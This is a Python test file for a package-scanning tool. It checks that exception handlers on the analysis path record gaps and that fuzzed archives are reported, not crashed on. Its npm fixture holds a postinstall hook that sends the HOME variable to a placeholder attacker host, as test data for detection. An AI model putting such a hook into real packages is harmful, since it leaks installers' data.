"""Fail closed (SPEC §4.5), checked over the whole analysis path rather than case by case.

1. Every `except` in the analysis path either records a gap (`gaps.record`, a `Gap`, a
   `*_gap` helper), re-raises, or says on its line (or the line above) why nothing is left
   unanalysed: `# not a gap: <why>`. A new handler that quietly returns nothing fails here.
2. Mutated archives never raise out of the pipeline, and where the archive cannot be read the
   report carries the `analysis.incomplete` finding.
"""

from __future__ import annotations

import ast
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.support import archives as A
from watcher.artifacts.extract import read_archive
from watcher.errors import ArchiveError, NotAnArchive
from watcher.models import Severity
from watcher.pipeline import scan_local

ROOT = Path(__file__).parents[1] / "watcher"
#: The modules between an archive's bytes and a report: where a silent `except` is a blind spot.
ANALYSIS_PATH = (
    "artifacts/extract.py",
    "artifacts/manifest.py",
    "pipeline.py",
    "parse",
    "rules",
    "mcp",
    "diff",
    "deps",
    "installed",
)
MARKER = "# not a gap:"


def _analysis_modules() -> list[Path]:
    found: list[Path] = []
    for entry in ANALYSIS_PATH:
        path = ROOT / entry
        found.extend(sorted(path.rglob("*.py")) if path.is_dir() else [path])
    return [p for p in found if p.exists()]


def _handled(handler: ast.ExceptHandler, lines: list[str]) -> bool:
    body = ast.Module(list(handler.body), [])
    if any(isinstance(node, ast.Raise) for node in ast.walk(body)):
        return True
    for node in ast.walk(body):
        if isinstance(node, ast.Call):
            name = ast.unparse(node.func)
            if name.endswith("record") or "gap" in name.lower():
                return True
    here = lines[handler.lineno - 1]
    above = lines[handler.lineno - 2] if handler.lineno >= 2 else ""
    return MARKER in here or above.strip().startswith(MARKER)


def test_every_except_in_the_analysis_path_records_a_gap_or_says_why_not() -> None:
    silent = []
    for path in _analysis_modules():
        text = path.read_text(encoding="utf-8")
        lines = text.splitlines()
        silent.extend(
            f"{path.relative_to(ROOT.parent)}:{node.lineno}"
            for node in ast.walk(ast.parse(text))
            if isinstance(node, ast.ExceptHandler) and not _handled(node, lines)
        )
    assert not silent, (
        "these handlers drop what they could not analyse; record a gap (watcher.gaps) or "
        f"explain with '{MARKER} <why>': {silent}"
    )


def test_the_meta_test_can_fail(tmp_path: Path) -> None:
    source = "try:\n    x = 1\nexcept ValueError:\n    x = 0\n"
    handler = next(n for n in ast.walk(ast.parse(source)) if isinstance(n, ast.ExceptHandler))
    assert not _handled(handler, source.splitlines())
    marked = source.replace("except ValueError:", f"except ValueError:  {MARKER} demo")
    handler = next(n for n in ast.walk(ast.parse(marked)) if isinstance(n, ast.ExceptHandler))
    assert _handled(handler, marked.splitlines())


_SEED = A.npm_tarball(
    {
        "package.json": '{"name":"m","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
        "i.js": "require('https').get('https://collect.attacker.invalid/' + process.env.HOME)\n",
        "index.js": "module.exports = 1\n",
    }
)
_TAR = A.tar([A.regular("package/package.json", '{"name":"m","version":"1.0.0"}')])


@st.composite
def _mutated(draw: st.DrawFn) -> bytes:
    base = draw(st.sampled_from([_SEED, A.gz(_TAR), _TAR]))
    data = bytearray(base)
    for _ in range(draw(st.integers(1, 6))):
        if not data:
            break
        position = draw(st.integers(0, len(data) - 1))
        choice = draw(st.sampled_from(["flip", "cut", "insert"]))
        if choice == "flip":
            data[position] ^= draw(st.integers(1, 255))
        elif choice == "cut":
            del data[position:]
        else:
            data[position:position] = draw(st.binary(min_size=1, max_size=64))
    return bytes(data)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=_mutated())
def test_mutated_archives_never_raise_and_unreadable_ones_are_reported(
    data: bytes, tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = tmp_path_factory.mktemp("m") / "m-1.0.1.tgz"
    path.write_bytes(data)
    try:
        read_archive(data, path.name)
        refused = False
    except NotAnArchive:
        with pytest.raises(NotAnArchive):
            scan_local(path)
        return
    except ArchiveError:
        refused = True
    report = scan_local(path)
    rules = {f.rule for f in report.findings}
    if refused:
        assert "analysis.incomplete" in rules and report.severity >= Severity.HIGH
